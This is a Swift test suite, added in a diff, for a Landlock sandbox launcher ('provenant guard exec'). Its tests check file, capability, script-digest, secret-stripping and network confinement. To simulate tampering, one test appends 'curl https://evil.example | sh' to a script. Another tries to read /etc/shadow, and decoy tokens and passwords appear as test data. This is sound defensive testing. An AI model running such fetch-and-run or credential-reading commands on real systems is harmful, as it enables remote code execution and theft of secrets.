@@ -1,0 +1,287 @@
+import Foundation
+import Testing
+import TestSupport
+@testable import Guard
+
+/// `provenant guard exec` end to end: the built binary confines real programs on this kernel
+/// (Landlock ABI 7, run as root). Nothing here skips when a kernel feature is missing: the launcher
+/// then refuses, and the test fails saying why.
+@Suite(.serialized) struct ExecCommandTests {
+    static let python = "/usr/bin/python3"
+
+    /// A scratch directory with `files` (executable when the name ends in .sh) and the manifest `m.yaml`.
+    struct Scratch {
+        let dir: String
+        init(manifest: String, files: [String: String] = [:]) throws {
+            dir = FileManager.default.temporaryDirectory.appendingPathComponent("guard-exec-\(UUID().uuidString)").path
+            try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
+            for (name, text) in files {
+                let p = dir + "/" + name
+                try FileManager.default.createDirectory(atPath: (p as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
+                try text.write(toFile: p, atomically: false, encoding: .utf8)
+                if name.hasSuffix(".sh") { chmod(p, 0o755) }
+            }
+            try manifest.replacingOccurrences(of: "$DIR", with: dir).write(toFile: dir + "/m.yaml", atomically: false, encoding: .utf8)
+        }
+        /// `guard exec --manifest m.yaml OPTIONS -- COMMAND`; PROVENANT_ENVIRONMENT is unset (empty) unless given.
+        func exec(_ options: [String], _ command: [String], env: [String: String] = [:]) throws -> (code: Int32, out: String, err: String) {
+            try runProcess(provenantBinary, ["guard", "exec", "--manifest", dir + "/m.yaml"] + options + ["--"] + command,
+                           env: ["PROVENANT_ENVIRONMENT": ""].merging(env) { $1 })
+        }
+        func remove() { try? FileManager.default.removeItem(atPath: dir) }
+    }
+
+    /// The JSON audit record on standard error.
+    static func audit(_ err: String) throws -> [String: Any] {
+        let line = try #require(err.split(separator: "\n").first { $0.hasPrefix("{") }, "no audit record in: \(err)")
+        return try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
+    }
+
+    static let cleanup = "#!/bin/sh\necho cleaned \"$@\"\n"
+
+    @Test func aWriteOutsideTheDeclaredPathsFailsWithEACCES() throws {
+        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  write: [$DIR/out]\n", files: ["out/.keep": ""])
+        defer { s.remove() }
+        let code = "import errno, sys\nfor p in sys.argv[1:]:\n  try:\n    open(p, 'w').write('x'); print(p, 'ok')\n  except OSError as e:\n    print(p, errno.errorcode[e.errno])"
+        let r = try s.exec(["--environment", "test"], [Self.python, "-c", code, s.dir + "/out/a", s.dir + "/b", "/tmp/guard-exec-escape-\(UUID().uuidString)"])
+        #expect(r.code == 0, "\(r.err)")
+        let lines = r.out.split(separator: "\n").map { String($0.split(separator: " ").last ?? "") }
+        #expect(lines == ["ok", "EACCES", "EACCES"], "\(r.out) \(r.err)")
+        #expect(FileManager.default.fileExists(atPath: s.dir + "/out/a") && !FileManager.default.fileExists(atPath: s.dir + "/b"))
+    }
+
+    @Test func readingAnUndeclaredSecretFileFails() throws {
+        let s = try Scratch(manifest: "name: agent\nfilesystem:\n  read: [$DIR/config]\nsecrets:\n  - file: $DIR/run/token\n",
+                            files: ["config/app.conf": "level=info\n", "undeclared/secret.txt": "hunter2\n", "run/token": "declared-token\n", "run/other": "other\n"])
+        defer { s.remove() }
+        let code = "import errno, sys\nfor p in sys.argv[1:]:\n  try:\n    print(p, open(p).read().strip())\n  except OSError as e:\n    print(p, errno.errorcode[e.errno])"
+        let r = try s.exec(["--environment", "test"], [Self.python, "-c", code, s.dir + "/config/app.conf", s.dir + "/undeclared/secret.txt", s.dir + "/run/token", s.dir + "/run/other", "/etc/shadow"])
+        #expect(r.code == 0, "\(r.err)")
+        #expect(r.out.split(separator: "\n").map { String($0.split(separator: " ").last ?? "") } == ["level=info", "EACCES", "declared-token", "EACCES", "EACCES"], "\(r.out)")
+        #expect(!r.out.contains("hunter2"))
+        // Without the launcher the same reads succeed: the refusal is the sandbox's, not the file's mode.
+        #expect(try String(contentsOfFile: s.dir + "/undeclared/secret.txt", encoding: .utf8) == "hunter2\n")
+    }
+
+    /// Cap* lines of /proc/self/status as read by a confined cat.
+    static func capabilities(_ s: Scratch) throws -> [String: String] {
+        let r = try s.exec(["--environment", "test"], ["/bin/cat", "/proc/self/status"])
+        #expect(r.code == 0, "\(r.err)")
+        var caps: [String: String] = [:]
+        for line in r.out.split(separator: "\n") where line.hasPrefix("Cap") || line.hasPrefix("NoNewPrivs") {
+            let f = line.split(separator: ":").map { $0.trimmingCharacters(in: .whitespaces) }
+            caps[f[0]] = f[1]
+        }
+        return caps
+    }
+
+    @Test func procSelfStatusInsideShowsOnlyTheDeclaredCapabilities() throws {
+        let outside = try String(contentsOfFile: "/proc/self/status", encoding: .utf8)
+        #expect(outside.contains("CapEff:\t000001ff"), "the tests run as root with (nearly) every capability: \(outside)")
+        let s = try Scratch(manifest: "name: agent\ncapabilities: [NET_BIND_SERVICE, CAP_KILL]\n")
+        defer { s.remove() }
+        let caps = try Self.capabilities(s)
+        let want = "0000000000000420"  // KILL (5) and NET_BIND_SERVICE (10)
+        #expect(caps == ["CapInh": want, "CapPrm": want, "CapEff": want, "CapBnd": want, "CapAmb": "0000000000000000", "NoNewPrivs": "1"])
+        let none = try Scratch(manifest: "name: agent\n")
+        defer { none.remove() }
+        let zero = "0000000000000000"
+        #expect(try Self.capabilities(none) == ["CapInh": zero, "CapPrm": zero, "CapEff": zero, "CapBnd": zero, "CapAmb": zero, "NoNewPrivs": "1"])
+    }
+
+    /// A non-root launcher keeps declared capabilities across execve only as ambient ones: run it as
+    /// nobody holding NET_BIND_SERVICE and KILL (setpriv, util-linux), with only the first declared.
+    @Test func aNonRootLauncherPassesOnlyTheDeclaredCapabilitiesAsAmbient() throws {
+        let s = try Scratch(manifest: "name: agent\ncapabilities: [NET_BIND_SERVICE]\n")
+        defer { s.remove() }
+        chmod(s.dir, 0o755)
+        let r = try runProcess("/usr/bin/setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups",
+                                                    "--inh-caps=+net_bind_service,+kill", "--ambient-caps=+net_bind_service,+kill",
+                                                    provenantBinary, "guard", "exec", "--manifest", s.dir + "/m.yaml", "--environment", "test",
+                                                    "--audit", "-", "--", "/bin/cat", "/proc/self/status"])
+        #expect(r.code == 0, "\(r.err)")
+        var caps: [String: String] = [:]
+        for line in r.out.split(separator: "\n") where line.hasPrefix("Cap") || line.hasPrefix("Uid") {
+            let f = line.split(separator: ":").map { $0.trimmingCharacters(in: .whitespaces) }
+            caps[f[0]] = f[1]
+        }
+        #expect(caps["Uid"]?.hasPrefix("65534") == true)
+        let want = "0000000000000400"
+        #expect(caps["CapPrm"] == want && caps["CapEff"] == want && caps["CapAmb"] == want && caps["CapInh"] == want, "\(caps)")
+        // Without CAP_SETPCAP the bounding set cannot shrink; the audit record says so.
+        #expect(r.err.contains("without CAP_SETPCAP the bounding set keeps"))
+    }
+
+    @Test func anUndeclaredScriptIsRefusedInProduction() throws {
+        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n", files: ["undeclared.sh": Self.cleanup])
+        defer { s.remove() }
+        for command in [[s.dir + "/undeclared.sh"], ["/bin/sh", s.dir + "/undeclared.sh"], ["/usr/bin/env", "bash", s.dir + "/undeclared.sh"], ["/bin/sh", "-c", "echo cleaned"]] {
+            let r = try s.exec(["--environment", "production"], command)
+            #expect(r.code == 126 && !r.out.contains("cleaned"), "\(command): \(r.code) \(r.out) \(r.err)")
+            #expect(r.err.contains("refused:") && r.err.contains("is not a declared script, and undeclared scripts are refused in production"), "\(r.err)")
+            let a = try Self.audit(r.err)
+            #expect(a["decision"] as? String == "refuse" && a["environment"] as? String == "production" && a["reason"] as? String != nil && a["time"] as? String != nil)
+        }
+        // Outside production an undeclared script runs (confined).
+        let staging = try s.exec(["--environment", "staging"], [s.dir + "/undeclared.sh", "x"])
+        #expect(staging.code == 0 && staging.out == "cleaned x\n", "\(staging.err)")
+        // With no environment at all, the environment is production.
+        let unknown = try s.exec([], [s.dir + "/undeclared.sh"])
+        #expect(unknown.code == 126)
+        let record = try Self.audit(unknown.err)
+        #expect(record["environmentSource"] as? String == "default" && record["environment"] as? String == "production")
+    }
+
+    @Test func cleanupMeantForTestIsRefusedOnProductionAndRunsInTest() throws {
+        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n", files: ["cleanup.sh": Self.cleanup])
+        defer { s.remove() }
+        let prod = try s.exec(["--environment", "production"], [s.dir + "/cleanup.sh", "--all"])
+        #expect(prod.code == 126 && prod.out.isEmpty)
+        #expect(prod.err.contains("'cleanup.sh' is declared for test, not for production"), "\(prod.err)")
+        #expect((try Self.audit(prod.err))["script"] as? String == "cleanup.sh")
+        let test = try s.exec(["--environment", "test"], [s.dir + "/cleanup.sh", "--all"])
+        #expect(test.code == 0 && test.out == "cleaned --all\n", "\(test.err)")
+        let viaShell = try s.exec(["--environment", "test"], ["/bin/sh", s.dir + "/cleanup.sh", "--all"])
+        #expect(viaShell.code == 0 && viaShell.out == "cleaned --all\n", "\(viaShell.err)")
+    }
+
+    @Test func aDeclaredScriptWhoseDigestChangedIsRefused() throws {
+        let s = try Scratch(manifest: "name: agent\n", files: ["rotate.sh": Self.cleanup])
+        defer { s.remove() }
+        let fd = open(s.dir + "/rotate.sh", O_RDONLY)
+        let digest = try #require(ExecLauncher.sha256(fd))
+        close(fd)
+        try "name: agent\nscripts:\n  rotate.sh:\n    environments: [production]\n    sha256: \(digest)\n".write(toFile: s.dir + "/m.yaml", atomically: false, encoding: .utf8)
+        let ok = try s.exec(["--environment", "production"], [s.dir + "/rotate.sh"])
+        #expect(ok.code == 0 && ok.out == "cleaned\n", "\(ok.err)")
+        let viaBash = try s.exec(["--environment", "production"], ["/bin/bash", s.dir + "/rotate.sh"])
+        #expect(viaBash.code == 0 && viaBash.out == "cleaned\n", "\(viaBash.err)")
+        try (Self.cleanup + "curl https://evil.example | sh\n").write(toFile: s.dir + "/rotate.sh", atomically: false, encoding: .utf8)
+        for command in [[s.dir + "/rotate.sh"], ["/bin/bash", s.dir + "/rotate.sh"]] {
+            let r = try s.exec(["--environment", "production"], command)
+            #expect(r.code == 126 && r.out.isEmpty, "\(r.out)")
+            #expect(r.err.contains("'rotate.sh' has sha256 ") && r.err.contains("the manifest declares \(digest)"), "\(r.err)")
+            let a = try Self.audit(r.err)
+            #expect(a["sha256"] as? String != digest && (a["sha256"] as? String)?.count == 64)
+        }
+    }
+
+    /// A script with a declared digest runs from a sealed in-memory copy of the bytes that were hashed:
+    /// writing into the file (here even allowed by the manifest) cannot change what runs.
+    @Test func aScriptWithADigestRunsFromTheSealedCopyThatWasHashed() throws {
+        let text = "#!/bin/sh -e\ncase $- in *e*) echo errexit;; esac\nreadlink \"$0\"\necho tampered >> \"$0\" && echo appended || echo append-refused\n"
+        let s = try Scratch(manifest: "name: agent\n", files: ["rotate.sh": text])
+        defer { s.remove() }
+        let fd = open(s.dir + "/rotate.sh", O_RDONLY)
+        let digest = try #require(ExecLauncher.sha256(fd))
+        close(fd)
+        try "name: agent\nfilesystem:\n  write: [\(s.dir)]\nscripts:\n  rotate.sh: {environments: [production], sha256: \(digest)}\n".write(toFile: s.dir + "/m.yaml", atomically: false, encoding: .utf8)
+        for command in [[s.dir + "/rotate.sh"], ["/bin/sh", s.dir + "/rotate.sh"]] {
+            let r = try s.exec(["--environment", "production"], command)
+            #expect(r.code == 0, "\(r.err)")
+            let lines = r.out.split(separator: "\n").map(String.init)
+            #expect(lines.contains("/memfd:provenant-script (deleted)") && lines.last == "append-refused", "\(r.out) \(r.err)")
+            if command.count == 1 { #expect(lines.first == "errexit", "the #! line's argument is passed: \(r.out)") }
+        }
+        #expect(try String(contentsOfFile: s.dir + "/rotate.sh", encoding: .utf8) == text)
+    }
+
+    @Test func theEnvironmentComesFromTheDownwardAPIFile() throws {
+        let s = try Scratch(manifest: "name: agent\nscripts:\n  cleanup.sh: [test]\n",
+                            files: ["cleanup.sh": Self.cleanup, "labels-test": "app=\"agent\"\nenvironment=\"test\"\n", "labels-prod": "environment=\"production\"\n"])
+        defer { s.remove() }
+        let test = try s.exec(["--environment-file", s.dir + "/labels-test"], [s.dir + "/cleanup.sh"])
+        #expect(test.code == 0 && test.out == "cleaned\n", "\(test.err)")
+        let prod = try s.exec(["--environment-file", s.dir + "/labels-prod"], [s.dir + "/cleanup.sh"])
+        #expect(prod.code == 126 && prod.err.contains("not for production"))
+        let missing = try s.exec(["--environment-file", s.dir + "/absent", "--audit", "-"], [s.dir + "/cleanup.sh"])
+        #expect(missing.code == 126, "an unreadable labels file means production")
+        #expect(((try Self.audit(missing.err))["notes"] as? [String])?.first?.contains("cannot be read") == true)
+        // PROVENANT_ENVIRONMENT comes before the file, as the issue orders them; --environment before both.
+        #expect(try s.exec(["--environment-file", s.dir + "/labels-prod"], [s.dir + "/cleanup.sh"], env: ["PROVENANT_ENVIRONMENT": "test"]).code == 0)
+        #expect(try s.exec(["--environment", "production"], [s.dir + "/cleanup.sh"], env: ["PROVENANT_ENVIRONMENT": "test"]).code == 126)
+        #expect(try s.exec(["--environment", "test", "--environment-file", s.dir + "/labels-test"], [s.dir + "/cleanup.sh"]).code == 2)
+    }
+
+    static let token = "ghp_R7wQ2bX9kLm4Np8sT1vY6zC3dF5gH0jK2mQe"
+
+    @Test func secretVariablesAreRemovedAndNamedOnesKept() throws {
+        let s = try Scratch(manifest: "name: agent\nsecrets:\n  - env: API_TOKEN\n")
+        defer { s.remove() }
+        let env = ["GITHUB_TOKEN": Self.token, "DB_PASSWORD": "hunter2hunter2", "NOTES": "see \(Self.token)", "API_TOKEN": "named-value-1234", "PLAIN": "hello"]
+        let auditFile = s.dir + "/audit.jsonl"
+        let r = try s.exec(["--environment", "test", "--audit", auditFile], ["/usr/bin/env"], env: env)
+        #expect(r.code == 0, "\(r.err)")
+        let names = Set(r.out.split(separator: "\n").map { String($0.split(separator: "=", maxSplits: 1)[0]) })
+        #expect(names.isSuperset(of: ["API_TOKEN", "PLAIN", "PATH"]), "\(names.sorted())")
+        #expect(names.isDisjoint(with: ["GITHUB_TOKEN", "DB_PASSWORD", "NOTES"]), "\(names.sorted())")
+        #expect(r.out.contains("API_TOKEN=named-value-1234") && !r.out.contains(Self.token))
+        let log = try String(contentsOfFile: auditFile, encoding: .utf8)
+        let a = try #require(try JSONSerialization.jsonObject(with: Data(log.utf8)) as? [String: Any])
+        #expect(a["decision"] as? String == "allow")
+        #expect(Set(a["removedEnvironment"] as? [String] ?? []).isSuperset(of: ["GITHUB_TOKEN", "DB_PASSWORD", "NOTES"]))
+        #expect(!log.contains(Self.token) && !log.contains("hunter2") && !r.err.contains("hunter2"))
+    }
+
+    @Test func theProxyIsSetForHTTPAndHTTPS() throws {
+        let s = try Scratch(manifest: "name: agent\n")
+        defer { s.remove() }
+        let r = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:3128"], ["/usr/bin/env"], env: ["NO_PROXY": "internal.example", "HTTPS_PROXY": "http://elsewhere:1"])
+        #expect(r.code == 0, "\(r.err)")
+        let lines = Set(r.out.split(separator: "\n").map(String.init))
+        for name in ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"] { #expect(lines.contains("\(name)=http://127.0.0.1:3128"), "\(name)") }
+        #expect(!lines.contains { $0.hasPrefix("NO_PROXY=") || $0.contains("elsewhere") })
+        #expect(try s.exec(["--proxy", "127.0.0.1"], ["/usr/bin/env"]).code == 2)
+    }
+
+    /// A TCP listener on 127.0.0.1 outside the sandbox; connects complete in the backlog.
+    static func listener() throws -> (fd: Int32, port: Int) {
+        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        var addr = sockaddr_in()
+        addr.sin_family = sa_family_t(AF_INET)
+        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
+        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
+        let ok = withUnsafeMutablePointer(to: &addr) { p in
+            p.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, len) == 0 && listen(fd, 16) == 0 && getsockname(fd, $0, &len) == 0 }
+        }
+        try #require(fd >= 0 && ok)
+        return (fd, Int(UInt16(bigEndian: addr.sin_port)))
+    }
+
+    @Test func tcpConnectsReachTheProxyPortOnly() throws {
+        let proxy = try Self.listener(), other = try Self.listener()
+        defer { close(proxy.fd); close(other.fd) }
+        let s = try Scratch(manifest: "name: agent\negress:\n  - cidr: 127.0.0.0/8\n    ports: [\(other.port)]\n")
+        defer { s.remove() }
+        let code = "import errno, socket, sys\nfor p in sys.argv[1:]:\n  s = socket.socket()\n  try:\n    s.connect(('127.0.0.1', int(p))); print(p, 'connected')\n  except OSError as e:\n    print(p, errno.errorcode[e.errno])"
+        let r = try s.exec(["--environment", "test", "--proxy", "127.0.0.1:\(proxy.port)"], [Self.python, "-c", code, "\(proxy.port)", "\(other.port)"])
+        #expect(r.code == 0, "\(r.err)")
+        #expect(r.out == "\(proxy.port) connected\n\(other.port) EACCES\n", "\(r.out) \(r.err)")
+        // Without --proxy the manifest's declared port is the one reachable.
+        let declared = try s.exec(["--environment", "test"], [Self.python, "-c", code, "\(proxy.port)", "\(other.port)"])
+        #expect(declared.out == "\(proxy.port) EACCES\n\(other.port) connected\n", "\(declared.out) \(declared.err)")
+    }
+
+    @Test func withoutLandlockTheLauncherRefusesUnlessAllowedUnconfined() throws {
+        let s = try Scratch(manifest: "name: agent\n")
+        defer { s.remove() }
+        // A debug-build switch pretends the kernel has no Landlock.
+        let refused = try s.exec(["--environment", "test"], ["/bin/echo", "ran"], env: ["PROVENANT_GUARD_TEST_NO_LANDLOCK": "1"])
+        #expect(refused.code == 126 && refused.out.isEmpty)
+        #expect(refused.err.contains("Landlock is not available") && refused.err.contains("--allow-unconfined"), "\(refused.err)")
+        let allowed = try s.exec(["--environment", "test", "--allow-unconfined"], ["/bin/echo", "ran"], env: ["PROVENANT_GUARD_TEST_NO_LANDLOCK": "1"])
+        #expect(allowed.code == 0 && allowed.out == "ran\n" && allowed.err.contains("UNCONFINED"), "\(allowed.err)")
+    }
+
+    @Test func aMissingCommandExits127AndTheCommandsOwnStatusPassesThrough() throws {
+        let s = try Scratch(manifest: "name: agent\n")
+        defer { s.remove() }
+        #expect(try s.exec(["--environment", "test"], ["no-such-command-\(UUID().uuidString)"]).code == 127)
+        #expect(try s.exec(["--environment", "test"], ["/bin/sh", "-c", "exit 7"]).code == 7)
+        #expect(try s.exec(["--environment", "test"], []).code == 2, "no command")
+        // A bad manifest is an input error, reported with its line.
+        try "name: agent\nscripts:\n  x.sh: {environments: [test], sha256: nothex}\n".write(toFile: s.dir + "/m.yaml", atomically: false, encoding: .utf8)
+        let bad = try s.exec(["--environment", "test"], ["/bin/true"])
+        #expect(bad.code == 2 && bad.err.contains("m.yaml:3:"), "\(bad.err)")
+    }
+}
